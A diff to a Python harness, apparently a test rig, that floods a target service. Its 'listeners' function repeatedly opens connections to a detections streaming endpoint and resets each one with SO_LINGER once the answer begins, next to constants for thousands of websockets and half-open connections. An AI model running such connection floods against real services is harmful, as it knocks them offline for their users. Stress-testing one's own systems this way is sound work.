@@ -10,7 +10,7 @@ import time
 from collections.abc import Iterator
 
 from .swarm import Script, swarm
-from .target import ATTACKER, TIMEOUT_S, Target
+from .target import TIMEOUT_S, Target
 
 WEBSOCKETS = 2_000
 LISTENERS = 70
@@ -37,18 +37,21 @@ def half_open(target: Target) -> str:
 
 
 def listeners(target: Target) -> str:
-    """70 × `HEAD /api/stream/detections`, each reset by the client"""
+    """70 × `HEAD /api/stream/detections`, each reset when its answer begins"""
     count = 0
     request = b"HEAD /api/stream/detections HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
     while target.is_on and count < LISTENERS:
         try:
-            tcp = socket.create_connection(target.address, TIMEOUT_S, (ATTACKER, 0))
+            tcp = socket.create_connection(target.address, TIMEOUT_S, target.source())
         except OSError:
             time.sleep(0.2)
             continue
         with tcp:
             tcp.sendall(request)
-            time.sleep(0.05)
+            try:
+                tcp.recv(1)
+            except OSError:
+                continue
             reset = struct.pack("ii", 1, 0)
             tcp.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, reset)
         count += 1
